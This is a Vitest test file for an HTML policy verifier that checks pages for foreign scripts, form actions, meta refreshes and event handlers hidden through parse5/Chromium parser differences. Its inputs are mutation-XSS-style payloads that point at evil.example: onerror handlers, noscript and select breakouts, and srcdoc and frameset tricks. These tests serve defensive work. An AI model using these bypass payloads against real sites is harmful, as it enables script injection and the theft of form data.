import { describe, expect, it } from 'vitest';
import { VerifyRefusal } from '../../src/errors.js';
import { allFramesetPages, DROPPED_POSITIONS, droppedPage, FRAMESET_FETCHES } from './frameset-pages.js';
import { verifyHtml } from './policy.js';

const where = (v: { violations: readonly { kind: string; context?: string | undefined; url?: string | undefined }[] }) =>
  v.violations.map((f) => `${f.kind}@${f.context ?? 'tree'}${f.url ? ` ${f.url}` : ''}`);

describe('where parse5 and Chromium disagree (P-01..P-10)', () => {
  it('relaxed select: iframe and img onerror inside select are found (P-01)', async () => {
    const v = await verifyHtml('<select><div><img src=x onerror=alert(1)><iframe src="https://evil.example/"></iframe></div><option>1</select>');
    expect(where(v)).toEqual(['event-handler@select', 'frame@select https://evil.example/']);
  });

  it('relaxed select: a button formaction inside select is found', async () => {
    const v = await verifyHtml('<form action=/ok><select><button formaction="https://evil.example/">x</button><option>1</select></form>');
    expect(where(v)).toEqual(['form-action@select https://evil.example/']);
  });

  it('P-02 select+svg+style img onerror is found', async () => {
    const v = await verifyHtml('<select><svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></select>');
    expect(where(v)).toEqual(['event-handler@select']);
    expect(v.violations[0]).toMatchObject({ element: 'img', attribute: 'onerror', line: 1, col: 51 });
  });

  it('a select inside a table (in select in table mode) is relaxed too', async () => {
    const v = await verifyHtml('<table><tr><td><select><div><script src=//evil.example/t.js></script></div></select></td></tr></table>');
    // The script is kept by parse5 (script is allowed in select); the div is what triggers the re-parse.
    expect(v.violations.map((f) => f.url)).toEqual(['https://evil.example/t.js']);
  });

  it('a page whose selects hold only options is parsed once and has no select-context findings', async () => {
    const v = await verifyHtml('<select name=country><option>JP<option selected>DE<optgroup label=x><option>FR</optgroup><hr></select><form action=/pay></form>');
    expect(v.findings.map((f) => f.context)).toEqual([undefined]);
  });

  it('declarative shadow root form is found (P-03)', async () => {
    const v = await verifyHtml('<div><template shadowrootmode="open"><form action="https://evil.example/"><input name=cc></form></template></div>');
    expect(where(v)).toEqual(['form-action@shadow-root https://evil.example/']);
  });

  it('plain template contents are checked, nested ones too (F-09)', async () => {
    const v = await verifyHtml('<template><div><template><script src=//evil.example/t.js></script></template></div></template>');
    expect(where(v)).toEqual(['script@template https://evil.example/t.js']);
  });

  it('noscript content is checked as markup, as a user without JavaScript gets it (P-05)', async () => {
    const html = '<head><noscript><meta http-equiv=refresh content="0;url=https://evil.example/nojs"></noscript></head><body><noscript><form action=//evil.example/f></form></noscript>';
    const v = await verifyHtml(html);
    expect(where(v)).toEqual(['meta-refresh@noscript https://evil.example/nojs', 'form-action@noscript https://evil.example/f']);
    // Positions point into the document, not into the noscript's text.
    expect(v.violations[1]).toMatchObject({ line: 1, col: html.indexOf('action=//evil.example/f') + 1, offset: html.indexOf('action=//evil.example/f') });
  });

  it('noscript with scripting on: an attribute that looks like a closing tag hides a live script (P-05)', async () => {
    const v = await verifyHtml('<noscript><p title="</noscript><script src=//evil.example/live.js></script>">');
    expect(v.violations.map((f) => [f.url, f.context])).toEqual([['https://evil.example/live.js', undefined]]);
  });

  it('srcdoc is verified as its own document with the parent base (F-09)', async () => {
    const v = await verifyHtml('<base href="/shop/"><iframe srcdoc="<form action=pay></form><script src=&quot;//evil.example/s.js&quot;></script>"></iframe>');
    expect(v.findings.filter((f) => f.context === 'srcdoc').map((f) => [f.kind, f.url, f.allowed])).toEqual([
      ['form-action', 'https://shop.example/shop/pay', true],
      ['script', 'https://evil.example/s.js', false],
    ]);
  });

  it('srcdoc nested more than three deep is refused', async () => {
    let doc = '<form action=//evil.example/></form>';
    for (let i = 0; i < 4; i++) doc = `<iframe srcdoc="${doc.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>`;
    await expect(verifyHtml(doc)).rejects.toMatchObject({ reason: 'too-deep' });
  });

  it('600-deep nesting is refused (P-10)', async () => {
    const html = '<div>'.repeat(600) + '<template><img src=x onerror=alert(1)></template>';
    const error = await verifyHtml(html).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(VerifyRefusal);
    expect((error as VerifyRefusal).reason).toBe('too-deep');
  });

  it('a deep but legal page (300 levels) verifies without recursion', async () => {
    const v = await verifyHtml('<div>'.repeat(300) + '<form action=//evil.example/></form>');
    expect(v.violations).toHaveLength(1);
  });

  it('comments, CDATA and bogus comments end where the tokenizer ends them (P-06)', async () => {
    const v = await verifyHtml('<!--><form action=//evil.example/a></form><!-- a --!><![CDATA[><form action=//evil.example/b>]]>');
    expect(v.violations.map((f) => f.url)).toEqual(['https://evil.example/a', 'https://evil.example/b']);
  });

  it('a <base> inside <svg> is not the document base, but URLs resolved through it are reported (preload scanner)', async () => {
    const v = await verifyHtml('<svg><base href="https://evil.example/"></svg><script src="/static/app.js"></script>');
    expect(v.findings.map((f) => [f.kind, f.url, f.allowed, f.context])).toEqual([
      ['base', 'https://evil.example/', false, undefined],
      ['script', 'https://shop.example/static/app.js', true, undefined],
      ['script', 'https://evil.example/static/app.js', false, 'other-base'],
    ]);
  });

  it('a meta refresh inside svg breaks out of foreign content and is found (P-08)', async () => {
    const v = await verifyHtml('<svg><meta http-equiv=refresh content="0;url=//evil.example/"></svg>');
    expect(where(v)).toEqual(['meta-refresh@tree https://evil.example/']);
  });
});

describe('tokens the frameset modes drop but the preload scanner reads (P-12)', () => {
  const P12_ORIGINALS = FRAMESET_FETCHES.slice(0, 3);
  const cases = P12_ORIGINALS.flatMap((fetch) => DROPPED_POSITIONS.map((position) => [droppedPage(fetch, position)] as const));
  it.each(cases)('flags the foreign fetch in %s, in the frameset context', async (page) => {
    const v = await verifyHtml(page);
    expect(v.violations.filter((f) => f.url?.startsWith('https://evil.example/') === true).map((f) => f.context)).toEqual(['frameset']);
  });

  /**
   * Every fetch of the family where the frameset modes drop it or a <frameset> detaches the body
   * that holds it (HTML §13.2.6.4.7): the preload scanner has fetched from those tokens.
   * oracle-frameset.test.ts opens the same pages in Chromium.
   */
  it.each(allFramesetPages().map((page) => [page] as const))('flags the foreign fetch in %s', async (page) => {
    const v = await verifyHtml(page);
    expect(v.violations.filter((f) => f.url?.startsWith('https://evil.example/') === true).length).toBeGreaterThan(0);
  });

  it('a plain frameset page is parsed once and has no reparsed findings', async () => {
    const v = await verifyHtml('<!DOCTYPE html><html><head><title>Checkout</title></head><frameset rows="100%"><frame src="/hosted"><noframes><p>Frames</p></noframes></frameset></html>');
    expect(v.findings.every((f) => f.context === undefined)).toBe(true);
    expect(v.violations).toEqual([]);
  });
});
